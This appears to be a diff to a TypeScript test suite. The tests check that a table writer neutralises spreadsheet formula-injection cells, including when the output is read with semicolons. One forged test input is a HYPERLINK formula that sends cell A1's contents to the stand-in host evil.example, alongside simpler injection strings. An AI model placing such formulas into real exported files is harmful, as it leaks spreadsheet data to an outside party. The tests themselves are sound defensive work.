@@ -20,6 +20,21 @@ describe("a table", () => {
     );
   });
 
+  test("begins no cell with a formula where it is read by semicolons either", () => {
+    fc.assert(
+      fc.property(tables, (rows) => {
+        const text = writeTable(rows);
+        const read = [...Papa.parse<string[]>(text, { delimiter: ";" }).data, ...readTable(text, ";").map((row) => row.cells), ...text.split("\n").map((line) => line.split(";"))];
+        expect(read.flat().filter((cell) => /^[\s"]*[=+\-@＝]/u.test(cell))).toEqual([]);
+      }),
+      { numRuns: 500 },
+    );
+    const forged = writeTable([["Shop;=1+1;", 'Hi\n=HYPERLINK("https://evil.example/?x="&A1,"open")', "a\t@b"]]);
+    expect(forged).toContain("Shop;'=1+1;");
+    expect(forged).toContain("Hi\n'=HYPERLINK");
+    expect(uncell("Shop;'=1+1;")).toBe("Shop;=1+1;");
+  });
+
   test("that Papa Parse wrote is read as it does", () => {
     fc.assert(
       fc.property(tables, (rows) => {
@@ -34,7 +49,7 @@ describe("a table", () => {
   });
 
   test.for(["=1+1", "+1", "-1", "@x", "\t=1", " =1", "＝1", "'=1", '"=1'])("runs no formula: %j", (text) => {
-    expect(cellText(text)).toBe(`'${text}`);
+    expect(cellText(text).replace(/([\t\r\n])'/gu, "$1")).toBe(`'${text}`);
     expect(uncell(cellText(text))).toBe(text);
   });
 });
